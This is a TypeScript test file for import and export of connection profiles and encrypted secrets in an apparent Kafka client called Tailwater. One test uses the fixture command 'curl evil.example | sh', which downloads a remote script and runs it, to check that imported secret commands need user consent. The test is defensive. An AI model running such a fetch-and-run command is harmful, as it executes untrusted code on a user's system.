import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, test } from "node:test";
import { base64url } from "jose";
import type { ImportChoice } from "../../../src/contract/data.ts";
import { NO_DISTRIBUTION } from "../../../src/contract/distribution.ts";
import { LocalData } from "../../../src/extensions/data/local-data.ts";
import { Secret } from "../../../src/extensions/kit/secret.ts";
import { Preferences } from "../../../src/extensions/preferences/preferences.ts";
import { KeptSignIns, type SignInVault } from "../../../src/extensions/profiles/kept-sign-ins.ts";
import { ProfileSecrets, type SecretVault } from "../../../src/extensions/profiles/profile-secrets.ts";
import { ProfileStore } from "../../../src/extensions/profiles/profile-store.ts";
import { Profiles } from "../../../src/extensions/profiles/profiles.ts";
import { given } from "../../support/profiles.ts";
import { makeProfile } from "./make-profile.ts";

const PASSWORD = "canary-password-8211";
const PASSPHRASE = "correct horse battery";
const ALL = { profiles: null, passphrase: null };
const CHOICE: ImportChoice = { known: "override", commands: false, passphrase: null };

let root: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "tailwater-moved-"));
});
afterEach(() => rm(root, { recursive: true, force: true }));

/** An app with a vault in memory, in a folder of its own. */
async function app(name: string) {
  const folder = join(root, name);
  const kept = new Map<string, Secret>();
  const vault: SecretVault & SignInVault = {
    status: "open",
    get: (key) => kept.get(key) ?? null,
    has: (key) => kept.has(key),
    set: async (key, value) => void kept.set(key, value),
    delete: async (key) => void kept.delete(key),
    deleteWhere: async () => {},
    reread: async () => {},
  };
  const masked: string[] = [];
  const onSecret = (secret: Secret) => masked.push(secret.reveal());
  const store = await ProfileStore.open(join(folder, "profiles.json"));
  const preferences = await Preferences.open(folder, (error) => assert.fail(String(error)));
  const secrets = new ProfileSecrets(Promise.resolve(vault), onSecret);
  const profiles = new Profiles(
    store,
    secrets,
    null,
    async () => null,
    { idOf: () => "", forgetSignIn: () => {} },
    new KeptSignIns(Promise.resolve(vault), onSecret),
  );
  const data = new LocalData({
    ...{ folder, chosenBy: "data-dir", distribution: NO_DISTRIBUTION, version: "1", profiles, preferences },
    vault: { erase: async () => [] },
    log: { path: null, erase: async () => [] },
    window: () => [],
    closeAll: async () => {},
    masked: (text) => {
      masked.push(text);
      return new Secret(text);
    },
  });
  const importText = async (text: string, choice: Partial<ImportChoice> = {}) => {
    const source = { kind: "text", text } as const;
    return data.import(source, (await data.planImport(source)).digest, { ...CHOICE, ...choice });
  };
  return { data, profiles, preferences, kept, masked, importText };
}

const passwordOf = async ({ profiles }: Awaited<ReturnType<typeof app>>, id = "p1") =>
  (await profiles.settings(id, {})).secrets["kafka.sasl.password"];

test("secrets move only when asked for, encrypted, and arrive in the other vault", async () => {
  const one = await app("one");
  await one.profiles.save(makeProfile(), given(PASSWORD), true);
  const [plain, sealed] = [join(root, "plain.json"), join(root, "sealed.json")];
  assert.equal((await one.data.export(plain, ALL)).secrets, 0);
  assert.equal((await one.data.export(sealed, { profiles: null, passphrase: PASSPHRASE })).secrets, 1);
  const text = await readFile(sealed, "utf8");
  assert.ok(!text.includes(PASSWORD) && !text.includes(PASSPHRASE) && !one.data.exportText(null).includes("secrets"));
  assert.equal(JSON.parse(await readFile(plain, "utf8")).secrets, undefined);
  assert.ok(one.masked.includes(PASSPHRASE));

  const other = await app("other");
  assert.equal((await other.data.planImport({ kind: "file", path: sealed })).hasSecrets, true);
  await assert.rejects(other.importText(text, { passphrase: "not this one" }), { code: "PASSPHRASE_WRONG" });
  assert.deepEqual(other.profiles.saved(), [], "nothing is imported");
  const result = await other.importText(text, { passphrase: PASSPHRASE });
  assert.deepEqual(result, { added: 1, replaced: 0, secrets: 1, secretsStored: true });
  assert.equal(await passwordOf(other), PASSWORD);
  assert.deepEqual([...other.kept.keys()], ["profile:p1:kafka.sasl.password"]);
  const without = await app("without");
  assert.equal((await without.importText(text)).secrets, 0);
  await assert.rejects(passwordOf(without), { code: "PASSWORD_NEEDED" });
});

test("a short passphrase is refused, and no file is written", async () => {
  const one = await app("one");
  await one.profiles.save(makeProfile(), given(PASSWORD), true);
  const file = join(root, "x.json");
  await assert.rejects(one.data.export(file, { profiles: null, passphrase: "short" }), { code: "BAD_REQUEST" });
  await assert.rejects(readFile(file), { code: "ENOENT" });
});

test("a file whose profile was changed to other servers gives no secret to them", async () => {
  const one = await app("one");
  await one.profiles.save(makeProfile(), given(PASSWORD), true);
  const file = join(root, "sealed.json");
  await one.data.export(file, { profiles: null, passphrase: PASSPHRASE });
  const evil = (await readFile(file, "utf8")).replaceAll("kafka-1.example:9092", "evil.example:9092");
  const other = await app("other");
  await assert.rejects(other.importText(evil, { passphrase: PASSPHRASE }), {
    code: "PROFILE_INVALID",
    message: /other servers/,
  });
  assert.deepEqual([other.profiles.saved(), other.kept.size], [[], 0]);
});

test("a file cannot make an import work for minutes", async () => {
  const one = await app("one");
  await one.profiles.save(makeProfile(), given(PASSWORD), true);
  const file = join(root, "sealed.json");
  await one.data.export(file, { profiles: null, passphrase: PASSPHRASE });
  const document = JSON.parse(await readFile(file, "utf8"));
  const [head = "", ...rest] = String(document.secrets).split(".");
  const header = { ...JSON.parse(new TextDecoder().decode(base64url.decode(head))), p2c: 2_000_000_000 };
  document.secrets = [base64url.encode(JSON.stringify(header)), ...rest].join(".");
  const other = await app("other");
  await assert.rejects(other.importText(JSON.stringify(document), { passphrase: PASSPHRASE }), {
    code: "PASSPHRASE_WRONG",
  });
});

test("one profile is exported alone, with its own view settings", async () => {
  const one = await app("one");
  await one.profiles.save(makeProfile({ id: "a" }), {}, false);
  await one.profiles.save(makeProfile({ id: "b" }), {}, false);
  for (const id of ["a", "b"]) one.preferences.set(`tail/fields/${id}/orders`, '["x"]');
  one.preferences.set("theme", "dark");
  const written = JSON.parse(one.data.exportText(["b"]));
  assert.deepEqual(
    written.profiles.map(({ id }: { id: string }) => id),
    ["b"],
  );
  assert.deepEqual(written.preferences, { "tail/fields/b/orders": '["x"]' });
});

test("a known profile is replaced, or kept beside a copy with its secrets and view settings", async () => {
  const one = await app("one");
  await one.profiles.save(makeProfile({ name: "Theirs", bootstrapServers: ["theirs:1"] }), given(PASSWORD), true);
  one.preferences.set("tail/fields/p1/orders", '["x"]');
  const file = join(root, "sealed.json");
  await one.data.export(file, { profiles: null, passphrase: PASSPHRASE });
  const text = await readFile(file, "utf8");
  const other = await app("other");
  await other.profiles.save(makeProfile({ name: "Theirs" }), given("mine"), true);
  const { profiles } = await other.data.planImport({ kind: "text", text });
  assert.deepEqual(profiles[0]?.replaces?.changes, ["Bootstrap servers"]);
  const result = await other.importText(text, { known: "copy", passphrase: PASSPHRASE });
  assert.deepEqual(result, { added: 1, replaced: 0, secrets: 1, secretsStored: true });
  const copy = other.profiles.saved().find(({ id }) => id !== "p1");
  assert.equal(copy?.name, "Theirs (copy)");
  assert.deepEqual([await passwordOf(other), await passwordOf(other, copy?.id)], ["mine", PASSWORD]);
  assert.equal(other.preferences.get(`tail/fields/${copy?.id}/orders`), '["x"]');
  assert.equal((await other.importText(text)).replaced, 1);
  assert.deepEqual(
    other.profiles.saved().map(({ kafka }) => kafka.bootstrapServers[0]),
    ["theirs:1", "theirs:1"],
  );
  await assert.rejects(passwordOf(other), { code: "PASSWORD_NEEDED" }, "the old password is not for the new servers");
});

test("a command is imported only when the user agreed to what was shown", async () => {
  const one = await app("one");
  const secretCommands = { "kafka.sasl.password": "curl evil.example | sh" };
  await one.profiles.save({ ...makeProfile(), secretCommands }, {}, false);
  const text = one.data.exportText(null);
  const other = await app("other");
  const { profiles } = await other.data.planImport({ kind: "text", text });
  assert.deepEqual(profiles[0]?.commands, [{ secret: "Password", command: "curl evil.example | sh" }]);
  await other.importText(text);
  assert.deepEqual(other.profiles.saved()[0]?.secretCommands, {});
  await other.importText(text, { commands: true });
  assert.deepEqual(other.profiles.saved()[0]?.secretCommands, secretCommands);
});

test("an export of Tailwater 1 is imported in sections", async () => {
  const { id, name, color, kafka } = makeProfile();
  const { bootstrapServers, sasl } = kafka;
  const old = {
    ...{ format: "tailwater-configuration", schemaVersion: 1, writtenBy: "1.0.0", preferences: {} },
    profiles: [{ id, name, color, bootstrapServers, sasl, tls: { enabled: true, caPem: null } }],
  };
  const one = await app("one");
  const file = join(root, "old.json");
  await writeFile(file, JSON.stringify(old));
  await one.importText(await readFile(file, "utf8"));
  assert.deepEqual(one.profiles.saved()[0], { ...makeProfile(), lastUsedAt: null, safety: { lock: "read-only" } });
});
